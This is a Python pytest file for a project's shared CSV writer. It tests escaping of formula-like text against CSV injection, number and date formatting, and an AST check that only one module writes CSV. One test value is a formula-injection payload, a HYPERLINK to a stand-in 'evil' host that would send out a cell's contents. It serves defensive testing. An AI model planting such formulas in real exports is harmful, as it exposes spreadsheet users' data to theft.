"""The shared CSV writer: formulas neutralised the OWASP way, numbers left as numbers, and no module
writing CSV any other way."""

from __future__ import annotations

import ast
import csv
import io
from datetime import UTC, date, datetime
from decimal import Decimal
from pathlib import Path

import pytest

from suresh_ai.csvfile import csv_line, csv_text, fixed, neutralise, rupees

ROOT = Path(__file__).resolve().parents[2]
HOSTILE = '=HYPERLINK("http://evil/?x="&A1,"click")'


@pytest.mark.parametrize("text", [HOSTILE, "+1+1", "-2+3", "@SUM(A1:A9)", "\t=1", "\r=1", "'quoted"])
def test_text_starting_like_a_formula_gets_a_leading_quote(text: str) -> None:
    assert neutralise(text) == "'" + text
    [read] = csv.reader(io.StringIO(csv_line([text])))
    assert read == ["'" + text]


@pytest.mark.parametrize("text", ["Asha", "a=b", "5 kg", "", " =not a formula to any sheet", "2026-11-05"])
def test_other_text_is_left_as_it_is(text: str) -> None:
    assert neutralise(text) == text


def test_every_text_cell_is_quoted_and_numbers_are_bare() -> None:
    line = csv_line([HOSTILE, "-2+3", -5, Decimal("-5.00"), 0.25, None, 'say "hi"', True])
    assert line == (
        '"\'=HYPERLINK(""http://evil/?x=""&A1,""click"")","\'-2+3",-5,-5.00,0.25,"","say ""hi""","true"\r\n'
    )


def test_dates_are_iso_text_and_amounts_are_two_place_numbers() -> None:
    text = csv_text(["day", "at", "amount"], [(date(2026, 11, 5), datetime(2026, 11, 5, 9, 30, tzinfo=UTC), -500)])
    assert text.splitlines() == ['"day","at","amount"', '"2026-11-05","2026-11-05T09:30:00+00:00",-500']
    assert [str(rupees(p)) for p in (12_345, -500, 0, 7)] == ["123.45", "-5.00", "0.00", "0.07"]
    assert str(rupees(12_857.14)) == "128.57"
    assert [str(fixed(v, 4)) for v in (0.5, -0.74285, 1.0)] == ["0.5000", "-0.7429", "1.0000"]
    assert fixed(None, 4) is None


def _writes_csv(tree: ast.AST) -> list[int]:
    """Lines that create a csv writer: csv.writer(...)/csv.DictWriter(...) or names imported from csv."""
    imported = {
        alias.asname or alias.name
        for node in ast.walk(tree)
        if isinstance(node, ast.ImportFrom) and node.module == "csv"
        for alias in node.names
        if alias.name in ("writer", "DictWriter")
    }
    lines = []
    for node in ast.walk(tree):
        if not isinstance(node, ast.Call):
            continue
        func = node.func
        if isinstance(func, ast.Attribute) and func.attr in ("writer", "DictWriter"):
            if isinstance(func.value, ast.Name) and func.value.id == "csv":
                lines.append(node.lineno)
        elif isinstance(func, ast.Name) and func.id in imported:
            lines.append(node.lineno)
    return lines


def test_no_module_writes_csv_except_the_shared_writer() -> None:
    """Every export goes through suresh_ai/csvfile.py (tests may write CSV files to upload)."""
    skip = {".venv", "var", "node_modules", ".git", "tests"}
    offenders = []
    scanned = 0
    for path in ROOT.rglob("*.py"):
        relative = path.relative_to(ROOT)
        if skip & set(relative.parts[:-1]) or relative.name.startswith("test_"):
            continue
        scanned += 1
        for line in _writes_csv(ast.parse(path.read_text(encoding="utf-8"))):
            offenders.append(f"{relative}:{line}")
    assert scanned > 200  # the walk saw the project, not an empty directory
    assert [o.split(":")[0] for o in offenders] == ["suresh_ai/csvfile.py"], offenders


def test_the_check_finds_a_writer_written_either_way() -> None:
    source = "import csv\nfrom csv import DictWriter as W\ncsv.writer(x)\nW(y, fieldnames=[])\ncsv.reader(z)\n"
    assert _writes_csv(ast.parse(source)) == [3, 4]
